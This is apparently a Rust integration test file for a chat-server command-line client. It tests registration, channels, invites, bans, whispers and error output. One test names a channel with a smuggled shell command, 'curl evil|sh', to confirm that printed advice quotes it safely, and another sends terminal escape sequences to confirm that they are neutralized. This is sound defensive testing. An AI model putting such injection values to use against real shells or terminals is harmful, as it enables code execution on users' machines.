//! The verbs that ask a server: what they do, what they print, how they are refused.

#![allow(clippy::unwrap_used, reason = "a test fails by it")]

mod common;

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::Ordering::SeqCst;
use std::sync::atomic::{AtomicBool, AtomicUsize};
use std::thread;

use common::{Home, Server};
use serde_json::{Value, json};

fn fields(list: &Value, field: &str) -> Vec<String> {
    list.as_array().unwrap().iter().map(|item| item[field].as_str().unwrap().to_owned()).collect()
}

#[test]
fn registering_claims_a_name_once_and_writes_it_down() {
    let server = Server::start();
    let ann = Home::new();
    let register = ["register", "--server", &server.url, "--username", "ann", "--machine", "desk"];
    let shown = ann.run(register).ok();
    assert_eq!(shown.out, format!("registered ann/desk on {}\n", server.url));
    let file = fs::read_to_string(ann.path("config.toml")).unwrap();
    assert_eq!(
        file,
        format!(
            "default_permission = \"notify\"\n\n[[servers]]\nurl = \"{}\"\nusername = \"ann\"\nmachine = \"desk\"\n\
             server_key = \"{}\"\nderived_key = true\n",
            server.url,
            file.split("server_key = \"").nth(1).and_then(|rest| rest.get(..43)).unwrap_or_default()
        )
    );
    let again = ann.run([&register[..], &["--json"]].concat()).json();
    assert_eq!(again, json!({ "server": server.url, "user": "ann", "machine": "desk", "new": false }));
    ann.run(["register", "--server", &server.url, "--username", "other"]).fails(
        1,
        "'other'",
        "conclave status",
    );

    let thief = Home::new();
    thief.run(register).fails(1, "in use", "conclave machine add");
    assert!(!thief.path("config.toml").exists(), "what was refused is not written down");
    // What somebody called themselves is no advice.
    for name in ["operator", "please try again", "enrolled already"] {
        Home::registered(&server.url, name);
        let again = ["register", "--server", &server.url, "--username", name, "--machine", "desk"];
        thief.run(again).fails(1, "in use", "choose another name");
    }
    thief.run(["who", "--server", &server.url]).fails(
        1,
        "does not let this machine's key in",
        "conclave register",
    );
}

#[test]
fn a_machine_is_enrolled_learns_who_it_is_and_is_revoked() {
    let server = Server::start();
    let (desk, laptop) = (Home::registered(&server.url, "ann"), Home::new());
    let key = laptop.run(["key"]).ok().out;
    desk.run(["machine", "add", "--name", "laptop", "--pubkey", key.trim()]).ok();
    let learnt = laptop.run(["who", "--server", &server.url]).ok();
    assert!(learnt.err.contains("this machine is ann/laptop"), "{learnt:?}");
    laptop.run(["who"]).ok();
    // Under another URL it is the same server, and no second one.
    let alias = server.url.replace("127.0.0.1", "localhost");
    let again = laptop.run(["who", "--server", &alias]).ok();
    assert!(!again.err.contains("this machine is"), "{again:?}");
    laptop.run(["who"]).ok();

    let machines = laptop.run(["machine", "list", "--json"]).json();
    assert_eq!(fields(&machines, "name"), ["laptop", "m"]);
    assert_eq!(machines[0]["public_key"], key.trim());
    desk.run(["machine", "add", "--name", "again", "--pubkey", key.trim()]).fails(
        1,
        "",
        "conclave machine list",
    );
    desk.run(["machine", "remove", "nothing"]).fails(1, "nothing", "conclave machine list");
    desk.run(["machine", "remove", "laptop"]).ok();
    laptop.run(["who"]).fails(1, "does not let", "conclave machine add --name laptop --pubkey");
}

#[test]
fn a_private_channel_is_unseen_until_an_invite_is_redeemed() {
    let server = Server::start();
    let (ann, ben) = (Home::registered(&server.url, "ann"), Home::registered(&server.url, "ben"));
    ann.run(["channel", "create", "board", "--visibility", "private"]).ok();
    assert_eq!(ben.run(["channel", "list", "--json"]).json(), json!([]));
    ben.run(["join", "board"]).fails(1, "board", "--token");
    ben.run(["send", "--channel", "board", "x"]).fails(1, "board", "conclave channel list");
    ben.run(["tail", "--channel", "board"]).fails(1, "board", "--token");
    let unknown = ben.run(["join", "nothing"]).err;
    assert_eq!(unknown, ben.run(["join", "board"]).err.replace("board", "nothing"), "told the same");

    let made = ann.run(["invite", "create", "--channel", "board", "--uses", "1", "--expires-in", "1h"]).ok();
    let token = made.out.trim().to_owned();
    let invites = ann.run(["invite", "list", "--channel", "board", "--json"]).json();
    assert_eq!((&invites[0]["token"], &invites[0]["uses_remaining"]), (&json!(token), &json!(1)));
    ben.run(["join", "board", "--token", &token, "--perm", "converse"]).ok();
    assert!(ben.run(["perm", "show"]).ok().out.contains("#board  converse"));
    Home::registered(&server.url, "cid").run(["join", "board", "--token", &token]).fails(
        1,
        "board",
        "ask for a new one",
    );

    let second = ann.run(["invite", "create", "--channel", "board", "--json"]).json();
    let second = second["token"].as_str().unwrap();
    ann.run(["invite", "revoke", second]).ok();
    assert_eq!(ann.run(["invite", "list", "--channel", "board", "--json"]).json(), json!([]));
    assert_eq!(
        fields(&ann.run(["acl", "list", "--channel", "board", "--json"]).json(), "user"),
        ["ann", "ben"]
    );
    ben.run(["acl", "list", "--channel", "board"]).fails(1, "admin", "whoever created");
}

#[test]
fn channels_are_administrated() {
    let server = Server::start();
    let (ann, ben) = (Home::registered(&server.url, "ann"), Home::registered(&server.url, "ben"));
    ann.run(["channel", "create", "ops"]).ok();
    ann.run(["channel", "create", "ops"]).fails(1, "in use", "another name");
    assert_eq!(
        ann.run(["channel", "list"]).ok().out,
        "CHANNEL  VISIBILITY  MEMBER\nops      public      yes\n"
    );
    ann.run(["channel", "rename", "ops", "operations"]).ok();
    ann.run(["channel", "set-visibility", "operations", "unlisted"]).ok();
    assert_eq!(ben.run(["channel", "list", "--json"]).json(), json!([]));
    ben.run(["join", "operations"]).ok();
    ben.run(["channel", "delete", "operations"]).fails(1, "admin", "whoever created");

    ann.run(["acl", "add", "--channel", "operations", "ben"]).ok();
    ann.run(["ban", "--channel", "operations", "ben"]).ok();
    assert_eq!(fields(&ann.run(["bans", "--channel", "operations", "--json"]).json(), "user"), ["ben"]);
    ben.run(["join", "operations"]).fails(1, "operations", "");
    ann.run(["unban", "--channel", "operations", "ben"]).ok();
    assert_eq!(ann.run(["bans", "--channel", "operations"]).ok().out, "");
    ben.run(["join", "operations"]).ok();
    ann.run(["acl", "remove", "--channel", "operations", "ben"]).ok();
    ann.run(["kick", "--channel", "operations", "ben"]).fails(1, "ben", "conclave who operations");
    ann.run(["channel", "delete", "operations"]).ok();
    assert_eq!(ann.run(["channel", "list"]).ok().out, "");
}

#[test]
fn users_are_the_server_admins_business() {
    let server = Server::with(["--ephemeral", "--admin", "ann"]);
    let (ann, ben) = (Home::registered(&server.url, "ann"), Home::registered(&server.url, "ben"));
    assert_eq!(ann.run(["user", "list"]).ok().out, "USER\nann\nben\n");
    ben.run(["user", "list"]).fails(1, "admin", "--admin");
    ben.run(["user", "remove", "ann"]).fails(1, "admin", "");
    ann.run(["user", "remove", "ben"]).ok();
    assert_eq!(fields(&ann.run(["user", "list", "--json"]).json(), "user"), ["ann"]);
    ben.run(["who"]).fails(1, "does not let", "conclave machine add");
    let status = ann.run(["status", "--json"]).json();
    assert_eq!(status["servers"][0]["admin"], json!(true));
}

const LONG: usize = 50_000;

/// A relay that once loses what a server answers to a long message.
fn losing_an_answer(server: SocketAddr) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let lost = Arc::new(AtomicBool::new(false));
    thread::spawn(move || {
        for outer in listener.incoming() {
            let (mut outer, mut inner) = (outer.unwrap(), TcpStream::connect(server).unwrap());
            let (mut from, mut to) = (outer.try_clone().unwrap(), inner.try_clone().unwrap());
            let (sent, lost) = (Arc::new(AtomicUsize::new(0)), lost.clone());
            let passed = sent.clone();
            thread::spawn(move || {
                let mut buffer = [0; 4096];
                while let Ok(length @ 1..) = from.read(&mut buffer) {
                    passed.fetch_add(length, SeqCst);
                    let _ = to.write_all(&buffer[..length]);
                }
                let _ = to.shutdown(Shutdown::Both);
            });
            thread::spawn(move || {
                let mut buffer = [0; 4096];
                while let Ok(length @ 1..) = inner.read(&mut buffer) {
                    if sent.load(SeqCst) > LONG && !lost.swap(true, SeqCst) {
                        break;
                    }
                    let _ = outer.write_all(&buffer[..length]);
                }
                let _ = outer.shutdown(Shutdown::Both);
            });
        }
    });
    address
}

#[test]
fn a_message_whose_answer_is_lost_is_sent_again_and_stored_once() {
    let server = Server::start();
    let ann = Home::registered(&format!("ws://{}", losing_an_answer(server.address())), "ann");
    ann.run(["channel", "create", "ops"]).ok();
    let sent = ann.run(["send", "ops", &"x".repeat(LONG), "--json", "-v"]).ok();
    assert!(sent.err.contains("under the same id"), "{}", sent.err);
    assert_eq!(sent.json()["seq"], 1);
    let history = ann.run(["tail", "ops", "--no-follow", "--json"]).ok().out;
    assert_eq!(history.lines().count(), 1);
}

#[test]
fn a_server_is_recognized_under_another_url() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "ops"]).ok();
    let other = server.url.replace("127.0.0.1", "localhost");
    ann.run(["send", "--server", &other, "ops", "once"]).ok();
    // It writes the other URL down, with what opens a session there.
    ann.run(["status", "--server", &other]).ok();
    ann.run(["send", "--server", &other, "ops", "again"]).ok();
    ann.run(["who", "--server", &other]).ok();
    let history = ann.run(["tail", "--server", &other, "ops", "--no-follow"]).ok().out;
    assert!(history.contains(": once\n") && history.contains(": again\n"), "{history}");
}

#[test]
fn a_message_is_sent_as_typed_as_piped_and_as_nothing_else() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "ops"]).ok();
    let send = |input: &[u8], more: &[&str]| ann.piped(input, [&["send", "--channel", "ops"], more].concat());
    let silent = send(b"", &["typed"]).ok();
    assert_eq!((silent.out.as_str(), silent.err.as_str()), ("", ""));
    send(b"piped\n", &[]).ok();
    send(b"dash\r\n", &["-"]).ok();
    send(b"two\nlines\n\n", &["-"]).ok();
    let sent = send(b"", &["--json", "json"]).json();
    assert_eq!(
        (&sent["server"], &sent["channel"], &sent["seq"]),
        (&json!(server.url), &json!("ops"), &json!(5))
    );
    send(b"", &[]).fails(2, "no text", "pipe it in");
    send(b"\n", &["-"]).fails(2, "no text", "pipe it in");
    send(b"\xff\xfe", &["-"]).fails(1, "UTF-8", "base64");
    send(&vec![b'x'; 17 << 20], &["-"]).fails(1, "larger than any message", "a part of it");

    let history = ann.run(["tail", "--channel", "ops", "--no-follow", "--json"]).ok();
    let texts: Vec<_> = history
        .out
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(texts, ["typed", "piped", "dash", "two\nlines\n", "json"]);
}

#[test]
fn what_others_write_drives_no_terminal_and_json_carries_it_exact() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "ops"]).ok();
    let nasty = "\u{1b}[2Jgone\u{202e}\r\n2026-01-01 00:00:00 boss/m/s: pay";
    ann.run(["send", "--channel", "ops", nasty]).ok();
    let shown = ann.run(["tail", "--channel", "ops", "--no-follow", "--color", "always"]).ok().out;
    assert!(shown.contains("\\u{1b}[2Jgone\\u{202e}\\u{d}\n    2026-01-01"), "{shown:?}");
    assert!(!shown.contains("\u{1b}[2J") && !shown.contains('\u{202e}'));
    let json = ann.run(["tail", "--channel", "ops", "--no-follow", "--json"]).json();
    assert_eq!(json["text"], nasty);
}

#[test]
fn a_whisper_reaches_a_live_session_and_fails_for_an_absent_one() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["whisper", "ann/m/nobody", "hi"]).fails(1, "no mailbox", "conclave who");
    ann.run(["channel", "create", "ops"]).ok();
    let tail = common::Running::start(ann.command(["tail", "--channel", "ops", "--as", "cli-desk"]));
    tail.note("following #ops");
    assert_eq!(
        ann.run(["who", "--json"]).json(),
        json!([{ "path": "ann/m/cli-desk", "user": "ann", "machine": "m", "session": "cli-desk" }])
    );
    assert_eq!(ann.run(["who", "ops"]).ok().out, "USER  MACHINE  SESSION\nann   m        cli-desk\n");
    ann.run(["whisper", "ann/m/cli-desk", "hi"]).ok();
    let shown = tail.line();
    assert!(shown.contains("ann/m/cli-") && shown.ends_with(" whispers: hi"), "{shown}");
    // It asked nothing, so it says nothing.
    ann.run(["approve", "abcde"]).fails(
        1,
        "did not say that it took the answer",
        "--to USER/MACHINE/SESSION",
    );
    assert!(tail.line().ends_with(" whispers: yes abcde"));
    ann.run(["kick", "--channel", "ops", "ann/m/cli-desk"]).ok();
    assert_eq!(ann.run(["who", "ops", "--json"]).json(), json!([]));
}

#[test]
fn invocations_at_once_do_not_supersede_each_other() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "ops"]).ok();
    std::thread::scope(|scope| {
        for nth in 0..12 {
            let ann = &ann;
            scope.spawn(move || ann.run(["send", "--channel", "ops", &nth.to_string()]).ok());
        }
    });
    let history = ann.run(["tail", "--channel", "ops", "--no-follow", "--json"]).ok().out;
    assert_eq!(history.lines().count(), 12);
}

#[test]
fn status_tells_what_is_up_and_what_is_down() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    let up = ann.run(["status"]).ok().out;
    assert!(up.contains(&server.url) && up.contains("up") && up.contains(" ms"), "{up}");
    let gone = Server::start();
    ann.run(["register", "--server", &gone.url, "--username", "ann2"]).ok();
    let url = gone.url.clone();
    gone.kill();
    let status = ann.run(["status", "--json"]);
    assert_eq!(status.code, 1);
    let status: Value = serde_json::from_str(&status.out).unwrap();
    let [up, down] = &status["servers"].as_array().unwrap()[..] else { panic!("{status}") };
    assert_eq!((&up["reachable"], &up["user"]), (&json!(true), &json!("ann")));
    assert_eq!((&down["reachable"], &down["url"]), (&json!(false), &json!(url)));
    assert!(down["error"].as_str().unwrap().contains("cannot be reached"));
    let shown = ann.run(["status"]);
    assert!(
        shown.code == 1 && shown.out.contains("down") && shown.err.contains("conclave serve"),
        "{shown:?}"
    );
}

#[test]
fn the_demo_plays_to_its_end_without_any_home() {
    let ran = common::run(common::program().arg("demo"), b"").ok();
    for part in ["#build", "whispers to", "an invite", "is back", "caught up by builder", "kicks"] {
        assert!(ran.out.contains(part), "{part}: {}", ran.out);
    }
    assert_eq!(ran.err, "");
    let ran = common::run(common::program().args(["demo", "--json"]), b"").ok();
    let events: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(events.last().unwrap()["event"], "end");
}

#[cfg(unix)]
#[test]
fn the_demo_of_agents_that_wake_ends_by_itself() {
    let ran = common::run(common::program().args(["demo", "--wake", "--json"]), b"").ok();
    let events: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let said = |event: &&Value| event["event"] == "post";
    let from = events.iter().filter(said).map(|event| event["from"].as_str().unwrap().to_owned());
    assert_eq!(from.collect::<Vec<_>>(), ["aaron", "planner", "builder", "reviewer"]);
    assert_eq!(ran.out.matches("its message is acknowledged").count(), 3, "{}", ran.out);
    assert_eq!(events.last().unwrap()["event"], "end");
}

#[test]
fn the_doctor_finds_nothing_wrong_where_nothing_is() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    let report = ann.run(["doctor", "--bridge", "--json"]).json();
    assert_eq!(report["ok"], json!(true), "{report}");
    let checks = fields(&report["checks"], "check");
    for check in ["config", "key", "clock", "connection", "TLS", "server", "handshake", "latency", "bridge"] {
        assert!(checks.contains(&check.to_owned()), "{check}");
    }
    assert_eq!(common::names(&ann.dir), ["config.toml", "config.toml.lock", "key"], "nothing is left behind");
    assert!(ann.run(["doctor"]).ok().out.contains("All is well."));
}

#[test]
fn a_configuration_that_cannot_be_read_is_in_nobodys_way() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    std::fs::write(ann.path("config.toml"), "servers = [\n").unwrap();
    let ran = ann.run(["doctor", "--server", &server.url, "--json"]);
    let report: Value = serde_json::from_str(&ran.out).unwrap();
    let good = report["checks"].as_array().unwrap().iter().filter(|check| check["result"] == "ok");
    let good: Vec<_> = good.map(|check| check["check"].as_str().unwrap()).collect();
    assert!(ran.code == 1 && good.contains(&"latency") && !good.contains(&"config"), "{report}");
}

#[test]
fn who_removes_this_machine_is_told_that_it_was_done() {
    let server = Server::start();
    let (ann, other) = (Home::registered(&server.url, "ann"), Home::new());
    let key = other.run(["key", "--json"]).json()["public_key"].as_str().unwrap().to_owned();
    ann.run(["machine", "add", "--name", "phone", "--pubkey", &key]).ok();
    let removed = ann.run(["machine", "remove", "m", "--json"]).json();
    assert_eq!(removed, json!({ "server": server.url, "machine": "m" }));
    other.run(["who", "--server", &server.url]).ok();
}

#[test]
fn a_name_in_advice_runs_nothing() {
    let server = Server::start();
    let eve = Home::registered(&server.url, "eve");
    eve.run(["channel", "create", "!x;curl evil|sh #"]).ok();
    let bob = Home::new();
    let told = bob.run(["register", "--server", &server.url, "--username", "bob", "--machine", "m"]).ok().err;
    assert!(told.contains("conclave join '!x;curl evil|sh #'"), "{told}");
}

#[test]
fn registering_without_encryption_on_another_machine_draws_a_warning() {
    let home = Home::new();
    // 192.0.2.0/24 leads nowhere.
    for (url, warned) in
        [("ws://192.0.2.1:9", true), ("ws://127.0.0.1:1", false), ("wss://192.0.2.1:9", false)]
    {
        let ran = home.run(["register", "--server", url, "--username", "ann", "--timeout", "100ms"]);
        assert_eq!(ran.code, 1, "{ran:?}");
        assert_eq!(ran.err.contains("is not encrypted"), warned, "{ran:?}");
        let bridge = home.run(["bridge", "--server", url]).ok();
        assert_eq!(bridge.err.contains("is not encrypted"), warned, "{bridge:?}");
    }
}

#[test]
fn a_token_is_taken_from_a_file_or_standard_input_so_that_no_other_process_sees_it() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "board", "--visibility", "private"]).ok();
    let invite = || ann.run(["invite", "create", "--channel", "board", "--uses", "1"]).ok().out;
    let ben = Home::registered(&server.url, "ben");
    ben.piped(invite().as_bytes(), ["join", "board", "--token", "-"]).ok();
    let carl = Home::registered(&server.url, "carl");
    let file = carl.path("token");
    fs::write(&file, invite()).unwrap();
    let file = file.to_str().unwrap();
    carl.run(["join", "board", "--token-file", file]).ok();
    carl.run(["join", "board", "--token-file", "/absent"]).fails(1, "/absent", "ls -l");
    carl.run(["join", "board", "--token-file", file, "--token", "-"]).code_is(2);
    carl.piped(b"", ["join", "board", "--token", "-"]).fails(2, "no token", "pipe");
    let token = invite();
    ann.piped(token.as_bytes(), ["invite", "revoke", "-"]).ok();
    fs::write(file, invite()).unwrap();
    ann.run(["invite", "revoke", "--token-file", file]).ok();
    assert_eq!(ann.run(["invite", "list", "--channel", "board", "--json"]).json(), json!([]));
    ann.run(["invite", "revoke"]).code_is(2);
}

#[test]
fn a_channel_is_named_first_or_by_its_flag_with_or_without_its_number_sign() {
    let server = Server::start();
    let (ann, _ben) = (Home::registered(&server.url, "ann"), Home::registered(&server.url, "ben"));
    ann.run(["channel", "create", "#ops"]).ok();
    assert_eq!(fields(&ann.run(["channel", "list", "--json"]).json(), "name"), ["ops"]);
    for name in ["##ops", "###"] {
        let ran = ann.run(["channel", "create", name]).code_is(2);
        assert!(ran.err.contains("does not begin with '#'"), "{ran:?}");
        ann.run(["channel", "rename", "ops", name]).code_is(2);
    }
    for args in [
        &["send", "ops", "text"][..],
        &["send", "#ops", "text"],
        &["send", "--channel", "#ops", "text"],
        &["send", "--channel=ops", "text"],
        &["send", "ops", "text", "--server", &server.url],
        &["join", "#ops"],
        &["who", "#ops"],
        &["tail", "ops", "--since", "1h", "--no-follow"],
        &["tail", "--channel", "#ops", "--since", "1h", "--no-follow"],
        &["acl", "add", "ops", "ben"],
        &["acl", "add", "--channel", "#ops", "ben"],
        &["acl", "list", "#ops"],
        &["invite", "list", "ops"],
        &["invite", "create", "#ops", "--uses", "1"],
        &["ban", "ops", "ben"],
        &["bans", "ops"],
        &["unban", "ben", "--channel", "ops"],
        &["perm", "set", "converse", "#ops"],
        &["perm", "set", "converse", "--channel", "#ops"],
        &["channel", "set-visibility", "#ops", "unlisted"],
    ] {
        ann.run(args).ok();
    }
    let history = ann.run(["tail", "ops", "--since", "1h", "--no-follow"]).ok().out;
    assert_eq!(history.lines().count(), 5, "{history}");
    ann.run(["kick", "#ops", "ben"]).fails(1, "not in 'ops'", "conclave who ops");
    ann.piped(b"piped", ["send", "#ops"]).ok();
    for (args, what) in [
        (&["send"][..], "which channel"),
        (&["send", "--channel", "ops", "two", "words"], "more than one text"),
        (&["ban", "ben"], "which channel"),
        (&["ban", "--channel", "ops", "x", "ben"], "two channels"),
        (&["kick", "ops", "a/b"], "user/machine/session"),
    ] {
        ann.run(args).fails(2, what, "");
    }
    ann.run(["tail", "ops", "--channel", "ops"]).code_is(2);
    // What older clients named so stays in reach.
    ann.run(["join", "##ops"]).fails(1, "#ops", "channel list");
}

#[test]
fn a_text_may_begin_with_a_hyphen() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    ann.run(["channel", "create", "ops"]).ok();
    let texts = ["- a list item", "-5 degrees", "--- cut ---", "-- done"];
    for text in texts {
        ann.run(["send", "--channel", "ops", text]).ok();
        ann.run(["send", "ops", text, "--server", &server.url]).ok();
    }
    ann.run(["send", "ops", "--", "--help"]).ok();
    let history = ann.run(["tail", "ops", "--since", "1h", "--no-follow", "--json"]).ok().out;
    let sent: Vec<Value> = history.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut expected: Vec<_> = texts.iter().flat_map(|text| [*text, *text]).collect();
    expected.push("--help");
    assert_eq!(sent.iter().map(|it| it["text"].as_str().unwrap()).collect::<Vec<_>>(), expected);
    for flag in ["--sever", "-x"] {
        ann.run(["send", "--channel", "ops", flag]).fails(2, flag, "put `--` before it");
    }
    ann.run(["whisper", "ann/m/x", "- item"]).fails(1, "", "conclave who");
}

#[test]
fn errors_are_json_where_results_are() {
    let server = Server::start();
    let ann = Home::registered(&server.url, "ann");
    let error = |args: &[&str], code: i32| -> Value {
        let ran = ann.run(args).code_is(code);
        assert_eq!((ran.out.as_str(), ran.err.lines().count()), ("", 1), "{ran:?}");
        serde_json::from_str(&ran.err).unwrap()
    };
    let absent = error(&["join", "absent", "--json"], 1);
    assert!(absent["error"].as_str().unwrap().contains("absent"), "{absent}");
    assert_eq!(absent["code"], 1);
    assert!(absent["next"].as_str().unwrap().contains("channel list"), "{absent}");
    let untyped = error(&["--json", "tail"], 2);
    assert!(untyped["error"].as_str().unwrap().contains("which channel"), "{untyped}");
    assert!(untyped["next"].as_str().unwrap().contains("--channel"), "{untyped}");
    let misread = error(&["--json", "tail", "ops", "--since", "2"], 2);
    assert!(misread["error"].as_str().unwrap().contains("--since"), "{misread}");
    let mistyped = error(&["--json", "sned"], 2);
    assert!(mistyped["next"].as_str().unwrap().contains("send"), "{mistyped}");
    assert!(error(&["who", "--json", "--server", "https://a"], 2)["next"].is_string());
}
